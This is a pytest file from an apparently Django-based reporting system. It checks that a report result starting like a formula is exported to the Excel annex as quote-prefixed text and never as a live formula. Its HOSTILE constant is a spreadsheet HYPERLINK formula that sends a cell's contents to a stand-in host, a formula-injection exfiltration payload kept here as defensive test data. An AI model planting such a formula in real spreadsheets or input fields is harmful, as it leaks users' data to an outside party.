"""The annex workbook carries the units' own words: text that starts like a formula is
written as quote-prefixed text, never evaluated by a spreadsheet program."""

from __future__ import annotations

import datetime as dt
import io
import zipfile

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from dieuhanh.reporting.models import Report, ReportStatus, TaskProgress, TaskUpdate
from dieuhanh.synthesis.excel import synthesis_xlsx
from dieuhanh.synthesis.selectors import synthesis_build

pytestmark = pytest.mark.django_db
HOSTILE = '=HYPERLINK("http://x.example/?d="&A1,"Xem kết quả")'


def test_a_result_that_looks_like_a_formula_is_written_as_text(world, reporting):
    report = Report.objects.create(
        period=reporting.june,
        unit=world.units["hd_bql"],
        status=ReportStatus.ACCEPTED,
        first_submitted_at=timezone.make_aware(dt.datetime(2025, 6, 14, 9, 30)),
    )
    TaskUpdate.objects.create(
        report=report,
        task=world.tasks["bql_overdue"],
        progress=TaskProgress.IN_PROGRESS,
        percent=40,
        result=HOSTILE,
    )
    data = synthesis_xlsx(
        synthesis_build(user=world.users["admin"], period=reporting.june, issued_on=dt.date(2025, 7, 5))
    )
    ws = load_workbook(io.BytesIO(data))["Phụ lục IV"]
    (cell,) = [c for row in ws.iter_rows() for c in row if c.value == HOSTILE]
    assert cell.data_type == "s" and cell.quotePrefix
    package = zipfile.ZipFile(io.BytesIO(data))
    sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/")]
    assert all(b"<f>" not in package.read(n) and b"<f " not in package.read(n) for n in sheets)
